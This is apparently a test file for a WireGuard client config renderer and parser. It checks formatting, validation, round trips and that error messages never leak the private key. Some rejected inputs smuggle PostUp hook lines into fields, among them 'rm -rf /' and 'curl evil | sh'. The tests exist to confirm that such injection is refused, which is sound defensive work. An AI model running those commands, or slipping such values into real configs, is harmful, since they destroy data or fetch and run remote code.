import { parseClientConfig } from './client-config-parser.js';
import { renderClientConfig, type ClientConfig } from './client-config.js';
import { WireguardInputError } from './errors.js';

const key = (fill: number): string => Buffer.alloc(32, fill).toString('base64');
const CLIENT_KEY = key(1);
const SERVER_KEY = key(2);
const PSK = key(3);

const FULL: ClientConfig = {
  privateKey: CLIENT_KEY,
  addresses: ['10.8.0.2/32', 'fd42:66:1::2/128'],
  dns: ['1.1.1.1', '2606:4700:4700::1111'],
  mtu: 1420,
  peer: {
    publicKey: SERVER_KEY,
    presharedKey: PSK,
    endpoint: '198.18.1.2:51820',
    allowedIps: ['0.0.0.0/0', '::/0'],
    persistentKeepalive: 25,
  },
};

const FULL_TEXT = `[Interface]
PrivateKey = ${CLIENT_KEY}
Address = 10.8.0.2/32, fd42:66:1::2/128
DNS = 1.1.1.1, 2606:4700:4700::1111
MTU = 1420

[Peer]
PublicKey = ${SERVER_KEY}
PresharedKey = ${PSK}
Endpoint = 198.18.1.2:51820
AllowedIPs = 0.0.0.0/0, ::/0
PersistentKeepalive = 25
`;

const MINIMAL: ClientConfig = {
  privateKey: null,
  addresses: ['10.8.0.2/32'],
  dns: [],
  mtu: null,
  peer: { publicKey: SERVER_KEY, presharedKey: null, endpoint: 'vpn.example.com:51820', allowedIps: ['10.8.0.0/24'], persistentKeepalive: null },
};

const MINIMAL_TEXT = `[Interface]
PrivateKey = <insert your private key>
Address = 10.8.0.2/32

[Peer]
PublicKey = ${SERVER_KEY}
Endpoint = vpn.example.com:51820
AllowedIPs = 10.8.0.0/24
`;

function thrownMessage(action: () => unknown): string {
  try {
    action();
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('expected an error');
}

function withPeer(peer: Partial<ClientConfig['peer']>): ClientConfig {
  return { ...FULL, peer: { ...FULL.peer, ...peer } };
}

describe('renderClientConfig', () => {
  it.each([
    ['every optional line', FULL, FULL_TEXT],
    ['no optional lines and the private-key placeholder', MINIMAL, MINIMAL_TEXT],
  ])('renders a config with %s', (_case, config, text) => {
    expect(renderClientConfig(config)).toBe(text);
  });

  it.each([
    ['keepalive 0 as no keepalive line', withPeer({ persistentKeepalive: 0 }), 'PersistentKeepalive', false],
    ['IPv6 values in canonical form', { ...FULL, addresses: ['FD42:66:1:0::2/128'] }, 'Address = fd42:66:1::2/128\n', true],
    ['a bare address with its host prefix', { ...FULL, addresses: ['10.8.0.2'] }, 'Address = 10.8.0.2/32\n', true],
    ['an interface address with its subnet prefix', { ...FULL, addresses: ['10.8.0.2/24'] }, 'Address = 10.8.0.2/24\n', true],
    ['an IPv6 endpoint in brackets', withPeer({ endpoint: '[FD00:1::2]:51820' }), 'Endpoint = [fd00:1::2]:51820\n', true],
    ['a DNS search domain', { ...FULL, dns: ['1.1.1.1', 'corp.example'] }, 'DNS = 1.1.1.1, corp.example\n', true],
  ])('renders %s', (_case, config, fragment, present) => {
    expect(renderClientConfig(config).includes(fragment)).toBe(present);
  });

  it.each([
    ['config', null],
    ['privateKey', { ...FULL, privateKey: 'short' }],
    ['privateKey', { ...FULL, privateKey: undefined }],
    ['addresses', { ...FULL, addresses: [] }],
    ['addresses', { ...FULL, addresses: '10.8.0.2/32' }],
    ['addresses[1]', { ...FULL, addresses: ['10.8.0.2/32', '10.8.0.2'] }],
    ['addresses[0]', { ...FULL, addresses: ['10.8.0.2/33'] }],
    ['addresses[0]', { ...FULL, addresses: ['10.8.0.2/32\nPostUp = id'] }],
    ['dns[0]', { ...FULL, dns: ['1.1.1.1 # x'] }],
    ['dns[0]', { ...FULL, dns: ['not a domain'] }],
    ['mtu', { ...FULL, mtu: 100 }],
    ['mtu', { ...FULL, mtu: 1420.5 }],
    ['peer', { ...FULL, peer: null }],
    ['peer.publicKey', withPeer({ publicKey: `${SERVER_KEY}\r\n[Peer]` })],
    ['peer.presharedKey', withPeer({ presharedKey: '' })],
    ['peer.endpoint', withPeer({ endpoint: '198.18.1.2' })],
    ['peer.endpoint', withPeer({ endpoint: 'fd00::2:51820' })],
    ['peer.endpoint', withPeer({ endpoint: '198.18.1.2:51820\nPostUp = rm -rf /' })],
    ['peer.allowedIps', withPeer({ allowedIps: [] })],
    ['peer.allowedIps[0]', withPeer({ allowedIps: ['10.8.0.5/24'] })],
    ['peer.allowedIps[1]', withPeer({ allowedIps: ['0.0.0.0/0', '0.0.0.0/0'] })],
    ['peer.persistentKeepalive', withPeer({ persistentKeepalive: 65536 })],
    ['peer.persistentKeepalive', withPeer({ persistentKeepalive: -1 })],
  ])('refuses a bad %s', (field, config) => {
    expect(() => renderClientConfig(config as ClientConfig)).toThrow(WireguardInputError);
    expect(() => renderClientConfig(config as ClientConfig)).toThrow(expect.objectContaining({ field }));
  });

  it('says a value must not contain line breaks', () => {
    expect(() => renderClientConfig(withPeer({ endpoint: 'a:1\n[Peer]' }))).toThrow('peer.endpoint must be one line: no line breaks or other control characters');
  });
});

describe('parseClientConfig', () => {
  it.each([
    ['the full config', FULL_TEXT, FULL],
    ['the minimal config with the placeholder key', MINIMAL_TEXT, MINIMAL],
    [
      'lowercase keys, comments, blank lines, odd spacing and repeated list keys',
      `# exported by wgfleet
[interface]
privatekey=${CLIENT_KEY}   # the user's key
  address = 10.8.0.2/32
ADDRESS = fd42:66:1::2/128

dns = 1.1.1.1 ,2606:4700:4700::1111
Mtu = 1420
[ PEER ]
PublicKey = ${SERVER_KEY}
presharedkey = ${PSK}
endpoint = 198.18.1.2:51820
allowedips = 0.0.0.0/0
AllowedIPs = ::/0
persistentkeepalive = 25
`,
      FULL,
    ],
    ['CRLF line ends', FULL_TEXT.replace(/\n/g, '\r\n'), FULL],
    ['PersistentKeepalive = off', MINIMAL_TEXT.replace('AllowedIPs', 'PersistentKeepalive = off\nAllowedIPs'), MINIMAL],
    ['PersistentKeepalive = 0', MINIMAL_TEXT.replace('AllowedIPs', 'PersistentKeepalive = 0\nAllowedIPs'), MINIMAL],
  ])('reads %s', (_case, text, expected) => {
    expect(parseClientConfig(text)).toEqual(expected);
  });

  it.each([
    ['a setting before any section', `PrivateKey = ${CLIENT_KEY}\n${FULL_TEXT}`, 'line 1: a setting before any section'],
    ['an unknown section', FULL_TEXT.replace('[Peer]', '[Peers]'), 'line 7: unknown section'],
    ['a second [Peer]', `${FULL_TEXT}\n[Peer]\nPublicKey = ${PSK}\n`, 'a second [Peer] section'],
    ['a second [Interface]', `${FULL_TEXT}[Interface]\n`, 'a second [Interface] section'],
    ['PostUp', FULL_TEXT.replace('MTU = 1420', 'PostUp = curl evil | sh'), '"PostUp" is not supported in [Interface]; use one of PrivateKey, Address, DNS, MTU'],
    ['ListenPort', FULL_TEXT.replace('MTU = 1420', 'ListenPort = 51820'), '"ListenPort" is not supported in [Interface]'],
    ['a peer key in [Interface]', FULL_TEXT.replace('MTU = 1420', `PublicKey = ${SERVER_KEY}`), '"PublicKey" is not supported in [Interface]'],
    ['a line without "="', FULL_TEXT.replace('MTU = 1420', 'MTU 1420'), 'line 5: expected "Key = value"'],
    ['a scalar key set twice', FULL_TEXT.replace('MTU = 1420', 'MTU = 1420\nMTU = 1280'), 'line 6: MTU is set twice in [Interface]'],
    ['an empty list entry', FULL_TEXT.replace('::/0', '::/0,'), 'AllowedIPs has an empty entry'],
    ['no [Peer]', FULL_TEXT.slice(0, FULL_TEXT.indexOf('[Peer]')), 'the config has no [Peer] section'],
    ['no [Interface]', FULL_TEXT.slice(FULL_TEXT.indexOf('[Peer]')), 'the config has no [Interface] section'],
    ['no PrivateKey', FULL_TEXT.replace(/PrivateKey = .*\n/, ''), 'PrivateKey is missing'],
    ['no Endpoint', FULL_TEXT.replace(/Endpoint = .*\n/, ''), 'Endpoint is missing'],
    ['a non-numeric MTU', FULL_TEXT.replace('1420', 'big'), 'MTU must be a whole number'],
    ['MTU = off', FULL_TEXT.replace('1420', 'off'), 'MTU must be a whole number'],
    ['an invalid public key', FULL_TEXT.replace(SERVER_KEY, 'abc'), 'peer.publicKey must be a WireGuard key'],
    ['an out-of-range keepalive', FULL_TEXT.replace('= 25', '= 70000'), 'peer.persistentKeepalive must be an integer from 0 to 65535'],
    ['the empty string', '', 'no [Interface] section'],
  ])('refuses %s with a clear message', (_case, text, message) => {
    expect(() => parseClientConfig(text)).toThrow(message);
    expect(() => parseClientConfig(text)).toThrow(WireguardInputError);
  });

  it.each([
    ['a private key with a stray character', FULL_TEXT.replace(`PrivateKey = ${CLIENT_KEY}`, `PrivateKey = ${CLIENT_KEY}x`)],
    ['a private key in an unknown key', FULL_TEXT.replace('MTU = 1420', `Bogus = ${CLIENT_KEY}`)],
    ['a private key line without "="', FULL_TEXT.replace('MTU = 1420', CLIENT_KEY.replace(/=/g, ''))],
    ['a private key set twice', FULL_TEXT.replace('MTU = 1420', `PrivateKey = ${CLIENT_KEY}`)],
  ])('never quotes the private key in an error: %s', (_case, text) => {
    expect(thrownMessage(() => parseClientConfig(text))).not.toContain(CLIENT_KEY.slice(0, 20));
  });
});

describe('round trips', () => {
  it.each([
    ['full', FULL],
    ['minimal', MINIMAL],
    ['IPv6 endpoint and search domain', { ...withPeer({ endpoint: '[fd00:1::2]:51820' }), dns: ['corp.example'] }],
  ])('render → parse gives back the %s config', (_case, config) => {
    expect(parseClientConfig(renderClientConfig(config))).toEqual(config);
  });

  it.each([
    ['full', FULL_TEXT],
    ['minimal', MINIMAL_TEXT],
  ])('parse → render gives back the %s text', (_case, text) => {
    expect(renderClientConfig(parseClientConfig(text))).toBe(text);
  });
});
